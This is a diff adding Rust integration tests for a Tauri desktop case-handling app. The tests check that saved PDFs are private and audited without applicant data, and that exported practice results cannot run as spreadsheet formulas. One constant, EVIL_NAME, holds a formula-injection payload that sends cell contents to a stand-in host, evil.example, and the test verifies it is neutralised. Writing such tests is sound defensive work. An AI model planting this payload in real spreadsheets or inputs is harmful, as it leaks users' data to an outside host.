@@ -1,0 +1,257 @@
+//! Issue 19, part 8, through the running app (mock runtime, real data
+//! directory, real store): a saved document is audited and private, no
+//! exported spreadsheet cell runs as a formula, the session expires in Rust
+//! after the idle lock, and an administrator can end a practice session no
+//! one else can.
+
+use serde_json::{json, Value};
+use tauri::ipc::{CallbackFn, InvokeBody};
+use tauri::test::{get_ipc_response, mock_builder, MockRuntime, INVOKE_KEY};
+use tauri::webview::InvokeRequest;
+use tauri::{App, Manager, WebviewWindow};
+
+struct Mock {
+    app: App<MockRuntime>,
+    window: WebviewWindow<MockRuntime>,
+}
+
+const PASSWORD: &str = "window-pass";
+
+fn services() -> onewindow_lib::backoffice::ServiceOptions {
+    let store: std::sync::Arc<keyring_core::CredentialStore> =
+        keyring_core::mock::Store::new().unwrap();
+    onewindow_lib::backoffice::ServiceOptions {
+        key: offline_cache::KeySource::Store {
+            store: store.clone(),
+            account: "cases".into(),
+        },
+        token_store: Some(store),
+        backoffice: onewindow_lib::backoffice::BackOfficeSetting::Demo,
+        interval: std::time::Duration::from_millis(200),
+        standards_dir: onewindow_lib::config::ShippedFolders::find(None)
+            .root
+            .join("standards"),
+        background: false,
+        store: offline_cache::StoreOptions::default(),
+    }
+}
+
+fn start_with(
+    data_dir: &std::path::Path,
+    services: &onewindow_lib::backoffice::ServiceOptions,
+) -> Mock {
+    let specta = onewindow_lib::mock_specta_builder();
+    let app = onewindow_lib::with_app(mock_builder(), specta.clone(), Some(data_dir.to_path_buf()))
+        .build(onewindow_lib::context())
+        .expect("the app builds with the mock runtime");
+    onewindow_lib::start(&app, &specta, Some(data_dir.to_path_buf()), Some(services))
+        .expect("start-up succeeds");
+    let window = tauri::WebviewWindowBuilder::new(&app, "main", Default::default())
+        .build()
+        .expect("a mock window");
+    Mock { app, window }
+}
+
+fn invoke(mock: &Mock, command: &str, arguments: Value) -> Result<Value, Value> {
+    get_ipc_response(
+        &mock.window,
+        InvokeRequest {
+            cmd: command.into(),
+            callback: CallbackFn(0),
+            error: CallbackFn(1),
+            url: "tauri://localhost".parse().unwrap(),
+            body: InvokeBody::Json(arguments),
+            headers: Default::default(),
+            invoke_key: INVOKE_KEY.to_string(),
+        },
+    )
+    .map(|body| body.deserialize::<Value>().expect("a JSON answer"))
+}
+
+/// Makes the first administrator and one account per role (the trainee
+/// `evil` is a clerk whose name is a spreadsheet formula), then signs in.
+fn sign_in_as(mock: &Mock, login: &str) {
+    let status = invoke(mock, "session_status", json!({})).expect("session_status answers");
+    if status["first_start"] == true {
+        invoke(
+            mock,
+            "create_first_admin",
+            json!({ "login": "admin", "displayName": "管理员", "password": PASSWORD }),
+        )
+        .expect("the first administrator is made");
+        for (other, role, name) in [
+            ("clerk", "clerk", "clerk 示例"),
+            ("supervisor", "supervisor", "supervisor 示例"),
+            ("trainer", "trainer", "trainer 示例"),
+            ("evil", "clerk", EVIL_NAME),
+        ] {
+            invoke(
+                mock,
+                "create_account",
+                json!({ "login": other, "displayName": name, "role": role, "password": PASSWORD }),
+            )
+            .expect("the administrator makes the accounts");
+        }
+    }
+    invoke(
+        mock,
+        "sign_in",
+        json!({ "login": login, "password": PASSWORD }),
+    )
+    .expect("the account signs in");
+}
+
+const EVIL_NAME: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"成绩\")";
+
+fn state(mock: &Mock) -> tauri::State<'_, onewindow_lib::state::AppState> {
+    mock.app.state::<onewindow_lib::state::AppState>()
+}
+
+fn store(mock: &Mock) -> std::sync::Arc<offline_cache::CaseStore<offline_cache::Production>> {
+    state(mock).service().expect("the store is open").store.clone()
+}
+
+fn audit(mock: &Mock, action: &'static str) -> Vec<(String, String, String)> {
+    tauri::async_runtime::block_on(store(mock).read(move |connection| {
+        let mut statement = connection.prepare(
+            "SELECT actor, subject, detail FROM audit_log WHERE action = ?1 ORDER BY seq",
+        )?;
+        let rows = statement.query_map([action], |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)))?;
+        Ok(rows.collect::<Result<_, _>>()?)
+    }))
+    .unwrap()
+}
+
+/// A committed case of the sample (applicant 张三), with its receipt issued.
+fn case_with_receipt(mock: &Mock) -> (String, String) {
+    let forms_dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../forms");
+    let catalog = forms::load_catalog(&forms_dir.join("catalog")).unwrap();
+    let calendar = forms::calendar::WorkingCalendar::load_dir(&forms_dir.join("calendar")).unwrap();
+    let proposal = serde_json::to_value(
+        onewindow_lib::print::sample::proposal(
+            &catalog,
+            &calendar,
+            forms::decision::DecisionKind::Accept,
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    let (item, values) = backoffice_sim::sample_intakes().remove(0);
+    let mut intake = offline_cache::sample::intake(
+        &uuid::Uuid::new_v4().to_string(),
+        7,
+        chrono::Local::now().fixed_offset(),
+        0,
+        0,
+    );
+    intake.applicant.profile.id_type = Some("111".into());
+    intake.values = std::collections::BTreeMap::from([(
+        item.to_owned(),
+        values.as_object().unwrap().clone(),
+    )]);
+    intake.item_versions = std::collections::BTreeMap::from([(item.to_owned(), 1)]);
+    intake.sub_cases = std::collections::BTreeMap::from([(
+        "market-registration".to_owned(),
+        vec![item.to_owned()],
+    )]);
+    intake.materials = Vec::new();
+    intake.proposal = proposal;
+    let case_id = intake.case_id.clone();
+    tauri::async_runtime::block_on(store(mock).record_intake(intake)).unwrap();
+    let view = invoke(
+        mock,
+        "issue_document",
+        json!({ "caseId": case_id, "kind": "acceptance_receipt" }),
+    )
+    .expect("issue_document answers");
+    (case_id, view["number"].as_str().unwrap().to_owned())
+}
+
+#[cfg(unix)]
+#[test]
+fn a_saved_document_is_private_whole_and_audited_without_applicant_data() {
+    use std::os::unix::fs::PermissionsExt;
+    let root = tempfile::tempdir().unwrap();
+    let mock = start_with(root.path(), &services());
+    sign_in_as(&mock, "clerk");
+    let (case_id, number) = case_with_receipt(&mock);
+    assert!(audit(&mock, "document.saved").is_empty());
+
+    let saved = invoke(
+        &mock,
+        "save_document",
+        json!({ "caseId": case_id, "number": number }),
+    )
+    .expect("save_document answers");
+    let path = std::path::PathBuf::from(saved.as_str().unwrap());
+    assert!(std::fs::read(&path).unwrap().starts_with(b"%PDF"));
+    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600, "the saved PDF is for this account only");
+    let folder = path.parent().unwrap();
+    let left: Vec<_> = std::fs::read_dir(folder)
+        .unwrap()
+        .map(|entry| entry.unwrap().file_name())
+        .collect();
+    assert_eq!(left.len(), 1, "no temporary file is left: {left:?}");
+
+    let entries = audit(&mock, "document.saved");
+    assert_eq!(entries.len(), 1, "{entries:?}");
+    let (actor, subject, detail) = &entries[0];
+    let clerk_id = state(&mock).session.get().unwrap().user.id;
+    assert_eq!(actor, &clerk_id);
+    assert_eq!(subject, &case_id);
+    let detail: Value = serde_json::from_str(detail).unwrap();
+    assert_eq!(detail["number"], number.as_str());
+    assert_eq!(
+        detail["file"],
+        path.file_name().unwrap().to_str().unwrap(),
+        "{detail}"
+    );
+    let facts = tauri::async_runtime::block_on(store(&mock).document_facts(&case_id)).unwrap();
+    let text = detail.to_string();
+    assert!(
+        !text.contains(&facts.applicant_name) && !text.contains(&facts.applicant_identifier),
+        "no applicant data in the audit entry: {text}"
+    );
+
+    // A number the case does not have saves nothing and records nothing.
+    let unknown = invoke(
+        &mock,
+        "save_document",
+        json!({ "caseId": case_id, "number": "no-such-number" }),
+    )
+    .unwrap_err();
+    assert_eq!(unknown["code"], "bad_input", "{unknown}");
+    assert_eq!(audit(&mock, "document.saved").len(), 1);
+}
+
+#[test]
+fn a_trainees_name_that_is_a_formula_is_exported_as_text() {
+    let root = tempfile::tempdir().unwrap();
+    let mock = start_with(root.path(), &services());
+    sign_in_as(&mock, "trainer");
+    invoke(&mock, "start_practice", json!({ "traineeLogin": "evil" })).unwrap();
+    sign_in_as(&mock, "evil");
+    invoke(
+        &mock,
+        "start_scenario",
+        json!({ "scenarioId": "economic-company-complete" }),
+    )
+    .unwrap();
+    invoke(&mock, "finish_scenario", json!({ "keystrokes": 3 })).unwrap();
+    sign_in_as(&mock, "trainer");
+    let exported = invoke(&mock, "export_practice_results", json!({})).unwrap();
+    let path = exported.as_str().unwrap();
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600);
+    }
+    let mut reader = csv::Reader::from_path(path).unwrap();
+    let trainees: Vec<String> = reader
+        .records()
+        .map(|record| record.unwrap()[1].to_owned())
+        .collect();
+    assert_eq!(trainees, [format!("'{EVIL_NAME}")]);
+}
